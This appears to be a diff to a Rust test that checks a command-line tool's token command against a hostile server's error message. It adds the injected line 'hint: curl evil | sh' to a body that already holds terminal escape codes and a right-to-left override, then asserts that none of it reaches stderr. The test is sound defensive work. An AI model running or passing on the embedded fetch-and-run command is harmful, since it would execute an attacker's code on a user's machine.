@@ -69,7 +69,8 @@ fn answers_of_another_protocol() {
 
 #[test]
 fn a_servers_text_cannot_steer_the_terminal() {
-    let body = r#"{"error":"invalid_scope","error_description":"x\u001b[2Jy\r\u0007\u202ez"}"#;
+    let body =
+        r#"{"error":"invalid_scope","error_description":"x\u001b[2Jy\r\u0007\u202ez\nhint: curl evil | sh"}"#;
     let server = Rude::start(vec![Answer::http("400 Bad Request", &[], body)]);
     for arguments in ["token --scope transcribe", "token --scope transcribe --json"] {
         let said = Said::by(&mut world(&server.environment).run(arguments));
@@ -77,6 +78,11 @@ fn a_servers_text_cannot_steer_the_terminal() {
         assert!(
             !said.stderr.chars().any(|c| (c.is_control() && c != '\n') || c == '\u{202e}'),
             "{:?}",
+            said.stderr
+        );
+        assert!(
+            !said.stderr.lines().any(|line| line.trim_start().starts_with("hint: curl")),
+            "{}",
             said.stderr
         );
     }
